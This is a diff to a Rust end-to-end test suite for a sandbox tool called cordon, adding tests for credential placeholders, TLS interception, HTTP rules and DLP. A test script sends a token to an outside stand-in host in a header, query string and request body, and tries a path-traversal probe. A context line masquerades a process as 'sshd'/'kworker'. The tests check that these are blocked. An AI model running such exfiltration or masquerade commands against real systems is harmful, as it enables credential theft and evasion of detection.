@@ -370,6 +370,7 @@ impl FakeNet {
                     "40s".into(),
                 ])
                 .collect(),
+            env: Vec::new(),
         }
     }
 
@@ -484,6 +485,8 @@ fn curl(args: &[&str]) -> Vec<String> {
 struct Run<'n> {
     net: &'n FakeNet,
     args: Vec<String>,
+    /// Variables of cordon's own environment (secrets for `from_env`).
+    env: Vec<(String, String)>,
 }
 
 /// One finished `cordon run`.
@@ -499,6 +502,11 @@ struct Ran {
 impl Run<'_> {
     fn args(mut self, args: &[&str]) -> Self {
         self.args.extend(args.iter().map(|s| s.to_string()));
+        self
+    }
+
+    fn env(mut self, name: &str, value: &str) -> Self {
+        self.env.push((name.to_owned(), value.to_owned()));
         self
     }
 
@@ -518,6 +526,17 @@ impl Run<'_> {
         self.args(&["--policy", &p])
     }
 
+    /// Starts the run without waiting for it (stdout/stderr piped).
+    fn spawn<S: AsRef<str>>(self, command: &[S]) -> Child {
+        let mut cmd = cordon_command();
+        cmd.arg("run")
+            .args(&self.args)
+            .envs(self.env.iter().map(|(k, v)| (k, v)))
+            .arg("--")
+            .args(command.iter().map(AsRef::as_ref));
+        spawn(&mut cmd)
+    }
+
     fn run<S: AsRef<str>>(self, command: &[S]) -> Ran {
         // A file of its own, so runs may go in parallel.
         let n = self.net.policies.fetch_add(1, Ordering::Relaxed);
@@ -528,6 +547,7 @@ impl Run<'_> {
             .arg("--result")
             .arg(&result)
             .args(&self.args)
+            .envs(self.env.iter().map(|(k, v)| (k, v)))
             .arg("--")
             .args(command.iter().map(AsRef::as_ref));
         let f = finish(spawn(&mut cmd), RUN_LIMIT, "cordon run");
@@ -2184,6 +2204,364 @@ fn killing_the_supervisor_leaves_the_sandbox_no_network_and_no_process() {
 }
 
 // ------------------------------------------------------------------------------------------
+// Credentials, TLS interception, rules and DLP (issue 5).
+
+/// A secret value of this test run: random, so a grep for it can only find this run's leaks.
+fn test_secret() -> String {
+    let mut b = [0u8; 12];
+    getrandom_bytes(&mut b);
+    let hex: String = b.iter().map(|x| format!("{x:02x}")).collect();
+    format!("ghp_e2eSecret{hex}")
+}
+
+fn getrandom_bytes(buf: &mut [u8]) {
+    let mut f = std::fs::File::open("/dev/urandom").unwrap();
+    f.read_exact(buf).unwrap();
+}
+
+/// Every file under `dir` that contains `needle` (bytes).
+fn files_containing(dir: &Path, needle: &[u8]) -> Vec<PathBuf> {
+    let mut found = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        let Ok(rd) = std::fs::read_dir(&d) else {
+            continue;
+        };
+        for entry in rd.flatten() {
+            let p = entry.path();
+            let Ok(ft) = entry.file_type() else { continue };
+            if ft.is_dir() {
+                stack.push(p);
+            } else if ft.is_file() {
+                if let Ok(bytes) = std::fs::read(&p) {
+                    if bytes.windows(needle.len()).any(|w| w == needle) {
+                        found.push(p);
+                    }
+                }
+            }
+        }
+    }
+    found
+}
+
+const GH_POLICY: &str = r#"
+[network]
+allow = ["api.fake.test", "other.fake.test"]
+intercept = ["other.fake.test"]
+
+[[network.rules]]
+host = "api.fake.test"
+methods = ["GET", "POST"]
+paths = ["/echo-auth", "/zen", "/upload"]
+
+[[credentials]]
+name = "github"
+hosts = ["api.fake.test"]
+header = "Authorization"
+format = "Bearer {secret}"
+from_env = "GITHUB_TOKEN"
+
+[response]
+terminate_after_blocked = 0
+"#;
+
+/// The shell script run inside the sandbox for the credential tests: every client with the
+/// placeholder, then placeholders, a secret-shaped value and refused paths sent where they must
+/// not go. (`/proc` is searched from the host's side, in
+/// `no_sandbox_process_shows_the_secret_in_its_environment_or_command_line`.)
+const CRED_SCRIPT: &str = r#"
+echo "PLACEHOLDER=$GITHUB_TOKEN"
+echo "--- curl proxy"
+curl -sS --max-time 10 -D - -H "Authorization: Bearer $GITHUB_TOKEN" https://api.fake.test/echo-auth; echo
+echo "--- curl transparent"
+curl -sS --max-time 10 --noproxy '*' -H "Authorization: Bearer $GITHUB_TOKEN" https://api.fake.test/echo-auth; echo
+echo "--- python"
+/usr/bin/python3 - <<'PY'
+import os, urllib.request, requests
+h = {"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}
+print("urllib", urllib.request.urlopen(urllib.request.Request("https://api.fake.test/echo-auth", headers=h)).read().decode())
+r = requests.get("https://api.fake.test/echo-auth", headers=h)
+print("requests", r.status_code, r.text)
+PY
+if [ -x /usr/bin/node ]; then
+echo "--- node"
+/usr/bin/node -e "fetch('https://api.fake.test/echo-auth',{headers:{Authorization:'Bearer '+process.env.GITHUB_TOKEN}}).then(r=>r.text()).then(t=>console.log('node',t),e=>{console.log('node ERR',e,e.cause);process.exit(3)})"
+fi
+echo "--- elsewhere"
+curl -sS --max-time 10 -o /dev/null -w "other %{http_code}\n" -H "Authorization: Bearer $GITHUB_TOKEN" https://other.fake.test/collect
+curl -sS --max-time 10 -o /dev/null -w "url %{http_code}\n" "https://other.fake.test/c?t=$GITHUB_TOKEN"
+curl -sS --max-time 10 -o /dev/null -w "body %{http_code}\n" --data-binary "t=$GITHUB_TOKEN" https://api.fake.test/upload
+curl -sS --max-time 10 -o /dev/null -w "dlp %{http_code}\n" --data-binary "k=AKIAIOSFODNN7EXAMPLE" https://api.fake.test/upload
+curl -sS --max-time 10 -o /dev/null -w "rule %{http_code}\n" https://api.fake.test/admin
+curl -sS --max-time 10 -o /dev/null -w "dots %{http_code}\n" --path-as-is "https://api.fake.test/zen/%2e%2e/admin"
+echo "--- done"
+"#;
+
+/// Runs [`CRED_SCRIPT`] with GITHUB_TOKEN = `secret` in cordon's environment.
+fn run_credential_script(net: &FakeNet, secret: &str, upstream_ca: bool) -> Ran {
+    let mut run = net.cordon().policy(GH_POLICY).env("GITHUB_TOKEN", secret);
+    if upstream_ca {
+        let ca = net.dir.path().join("net/ca.pem").display().to_string();
+        run = run.args(&["--upstream-ca", &ca]);
+    }
+    run.run(&["/bin/sh", "-c", CRED_SCRIPT])
+}
+
+#[test]
+fn credentials_reach_their_host_through_interception_and_the_sandbox_never_holds_them() {
+    let Some(net) =
+        enter("credentials_reach_their_host_through_interception_and_the_sandbox_never_holds_them")
+    else {
+        return;
+    };
+    let secret = test_secret();
+    let mark = net.mark();
+    let r = run_credential_script(&net, &secret, true);
+    let out = &r.stdout;
+    assert_eq!(r.status, 0, "--- stdout\n{out}\n--- stderr\n{}", r.stderr);
+
+    // The sandbox holds a placeholder, never the value, and every client worked.
+    let placeholder = out
+        .lines()
+        .find_map(|l| l.strip_prefix("PLACEHOLDER="))
+        .unwrap()
+        .to_string();
+    assert!(placeholder.starts_with("cordon-placeholder-"), "{out}");
+    assert!(
+        !out.contains(&secret),
+        "the secret reached the sandbox:\n{out}"
+    );
+    let redacted = format!("authorization=Bearer {}", "*".repeat(secret.len()));
+    let clients = ["urllib ", "requests 200 "];
+    for c in clients {
+        assert!(out.contains(&format!("{c}{redacted}")), "{c}: {out}");
+    }
+    assert!(out.matches(&redacted).count() >= 4, "{out}");
+    assert!(
+        out.to_lowercase()
+            .contains(&format!("x-echo-auth: bearer {}", "*".repeat(secret.len()))),
+        "{out}"
+    );
+    if Path::new("/usr/bin/node").exists() {
+        assert!(out.contains(&format!("node {redacted}")), "{out}");
+    } else {
+        eprintln!("SKIPPED node part: /usr/bin/node is not installed");
+    }
+    // Placeholders going elsewhere, DLP and the rules.
+    for line in [
+        "other 403",
+        "url 403",
+        "body 403",
+        "dlp 403",
+        "rule 403",
+        "dots 403",
+    ] {
+        assert!(out.lines().any(|l| l == line), "missing {line:?}:\n{out}");
+    }
+
+    // Upstream received the real value, and only on the bound host, always over TLS.
+    let http = net.seen_since(mark, "http");
+    let bearer = format!("Bearer {secret}");
+    let with_secret: Vec<_> = http
+        .iter()
+        .filter(|e| e["auth"] == bearer.as_str())
+        .collect();
+    assert!(with_secret.len() >= 4, "{http:#?}");
+    for e in &with_secret {
+        assert_eq!(e["host"], "api.fake.test");
+        assert_eq!(e["tls"], true);
+    }
+    assert!(
+        http.iter().all(|e| e["host"] != "other.fake.test"),
+        "a refused request reached other.fake.test: {http:#?}"
+    );
+    assert!(
+        http.iter()
+            .all(|e| e["path"] != "/admin" && e["method"] != "POST"),
+        "{http:#?}"
+    );
+
+    // The audit names the credential's uses and the alerts, never the value.
+    let events = net.audit_events(&r.session());
+    let uses: Vec<_> = events
+        .iter()
+        .filter(|e| {
+            e["kind"] == "http_request"
+                && e["reason"]
+                    .as_str()
+                    .is_some_and(|s| s.contains("credential github injected"))
+        })
+        .collect();
+    assert!(uses.len() >= 4, "{events:#?}");
+    assert!(uses
+        .iter()
+        .all(|e| e["path"] == "/echo-auth" && e["method"] == "GET"));
+    let alerts: Vec<&str> = events
+        .iter()
+        .filter(|e| e["kind"] == "alert")
+        .filter_map(|e| e["rule"].as_str())
+        .collect();
+    for rule in [
+        "placeholder-leak:placeholder:github",
+        "dlp:aws_access_key_id",
+        "response-redacted:secret:github",
+    ] {
+        assert!(alerts.contains(&rule), "no {rule} alert: {alerts:?}");
+    }
+    let rules: Vec<_> = records(&events, "blocked", Some("api.fake.test"))
+        .into_iter()
+        .filter(|e| e["rule"] == "http-rules:default-deny")
+        .collect();
+    assert_eq!(rules.len(), 2, "{events:#?}");
+
+    // Secrecy: the value is nowhere cordon wrote — audit store, workspace, output, errors.
+    let needle = secret.as_bytes();
+    let audit_files = files_containing(net.dir.path(), needle);
+    let leaked: Vec<_> = audit_files
+        .iter()
+        .filter(|p| !p.starts_with(net.dir.path().join("net")))
+        .collect();
+    assert!(leaked.is_empty(), "the secret is in {leaked:?}");
+    assert!(!r.stderr.contains(&secret), "{}", r.stderr);
+    let exported = net.audit(&["events", &r.session(), "--json"]);
+    assert!(!exported.stdout.contains(&secret));
+}
+
+#[test]
+fn an_upstream_that_fails_verification_is_refused_and_a_missing_secret_fails_the_run() {
+    let Some(net) =
+        enter("an_upstream_that_fails_verification_is_refused_and_a_missing_secret_fails_the_run")
+    else {
+        return;
+    };
+    // Without --upstream-ca, the fake origin's certificate does not verify against the host's
+    // trust store: the request is refused (502), never sent, and audited.
+    let secret = test_secret();
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(GH_POLICY)
+        .env("GITHUB_TOKEN", &secret)
+        .run(&curl(&[
+            "-H",
+            "Authorization: Bearer x",
+            "https://api.fake.test/zen",
+        ]))
+        .ok();
+    let (code, reason) = r.curl_code();
+    assert_eq!(code, 502, "{}", r.stdout);
+    assert!(reason.contains("failed TLS verification"), "{reason}");
+    assert!(net.seen_since(mark, "http").is_empty());
+    let events = net.audit_events(&r.session());
+    assert!(
+        records(&events, "blocked", Some("api.fake.test"))
+            .iter()
+            .any(|e| e["rule"] == "upstream-tls"),
+        "{events:#?}"
+    );
+
+    // A secret that cannot be read fails the run before anything starts, without a value.
+    let r = net.cordon().policy(GH_POLICY).run(&["true"]);
+    assert_eq!(r.status, 125, "{}", r.stderr);
+    assert!(
+        r.stderr
+            .contains("credential github: environment variable GITHUB_TOKEN is not set"),
+        "{}",
+        r.stderr
+    );
+}
+
+/// Pids of `root` and every process below it (from /proc/*/stat).
+fn descendants(root: u32) -> Vec<u32> {
+    let mut parent = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
+            continue;
+        };
+        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
+            continue;
+        };
+        // The command name may hold spaces and parentheses: the ppid follows the last ')'.
+        let after = &stat[stat.rfind(')').unwrap_or(0) + 1..];
+        if let Some(ppid) = after
+            .split_whitespace()
+            .nth(1)
+            .and_then(|p| p.parse::<u32>().ok())
+        {
+            parent.push((pid, ppid));
+        }
+    }
+    let mut out = vec![root];
+    let mut i = 0;
+    while i < out.len() {
+        let p = out[i];
+        out.extend(parent.iter().filter(|(_, pp)| *pp == p).map(|(c, _)| *c));
+        i += 1;
+    }
+    out
+}
+
+#[test]
+fn no_sandbox_process_shows_the_secret_in_its_environment_or_command_line() {
+    let Some(net) = enter("no_sandbox_process_shows_the_secret_in_its_environment_or_command_line")
+    else {
+        return;
+    };
+    let secret = test_secret();
+    let ca = net.dir.path().join("net/ca.pem").display().to_string();
+    let child = net
+        .cordon()
+        .policy(GH_POLICY)
+        .env("GITHUB_TOKEN", &secret)
+        .args(&["--upstream-ca", &ca])
+        .spawn(&[
+            "/bin/sh",
+            "-c",
+            "curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.fake.test/echo-auth; echo; echo READY; exec sleep 30",
+        ]);
+    let root = child.id();
+    // Wait until the sandbox is up (its sleep exists), then read every process of the run —
+    // the supervisor, the sandbox's init and the command — from the host's side, as root sees
+    // them (more than the sandbox itself could read).
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let mut checked = 0;
+    while Instant::now() < deadline {
+        let pids = descendants(root);
+        let sleeping = pids.iter().any(|p| {
+            std::fs::read(format!("/proc/{p}/cmdline")).is_ok_and(|c| c.starts_with(b"sleep\0"))
+        });
+        if sleeping {
+            for p in &pids {
+                for what in ["environ", "cmdline"] {
+                    if let Ok(bytes) = std::fs::read(format!("/proc/{p}/{what}")) {
+                        checked += 1;
+                        assert!(
+                            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
+                            "the secret is in /proc/{p}/{what} ({:?})",
+                            std::fs::read_to_string(format!("/proc/{p}/comm")).unwrap_or_default()
+                        );
+                    }
+                }
+            }
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    // The run is ended by its own pid (kill sends SIGKILL to the supervisor; the sandbox dies
+    // with it through the parent-death signal).
+    let mut child = child;
+    let _ = child.kill();
+    let f = finish(child, Duration::from_secs(30), "cordon run");
+    assert!(checked >= 6, "the sandbox never came up: {}", f.stderr);
+    assert!(
+        f.stdout.contains("authorization=Bearer ****"),
+        "{}",
+        f.stdout
+    );
+    assert!(!f.stdout.contains(&secret) && !f.stderr.contains(&secret));
+}
+
+// ------------------------------------------------------------------------------------------
 // Detection, response and alerts (issue 4).
 
 /// A webhook receiver on the test namespace's loopback: every POST body, parsed.
@@ -2640,6 +3018,14 @@ curl -sS -o /dev/null http://api.fake.test/by-curl
 /usr/bin/python3 -c 'import os; os.execv("/usr/bin/python3", ["sshd", "-c", "import ctypes, urllib.request; ctypes.CDLL(None).prctl(15, b\"kworker\", 0, 0, 0); urllib.request.urlopen(\"http://api.fake.test/by-liar\").read()"])'
 curl -sS -o /dev/null --noproxy '*' http://api.fake.test/by-curl-direct
 curl -sS -o /dev/null http://other.fake.test/by-curl-blocked || true
+/usr/bin/python3 -c '
+import socket, struct
+ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x08tcp-name\x04fake\x04test\x00" + struct.pack(">HH", 1, 1)
+s = socket.create_connection((ns, 53))
+s.sendall(struct.pack(">H", len(q)) + q)
+s.recv(512)
+'
 "#;
 
 #[test]
@@ -2709,6 +3095,15 @@ fn every_network_event_names_the_sandbox_process_by_its_real_executable() {
             "{q}"
         );
     }
+
+    // DNS over TCP (redirected to the gateway) is python's.
+    let tcp_dns = records(&events, "dns_query", Some("tcp-name.fake.test"));
+    assert_eq!(tcp_dns.len(), 1, "{events:#?}");
+    let (_, exe, cmdline) = process(tcp_dns[0]);
+    assert_eq!(
+        (Path::new(&exe), cmdline[0].as_str()),
+        (python_exe.as_path(), PY)
+    );
 
     // A blocked attempt names its process as well.
     let blocked = by_path("/by-curl-blocked");
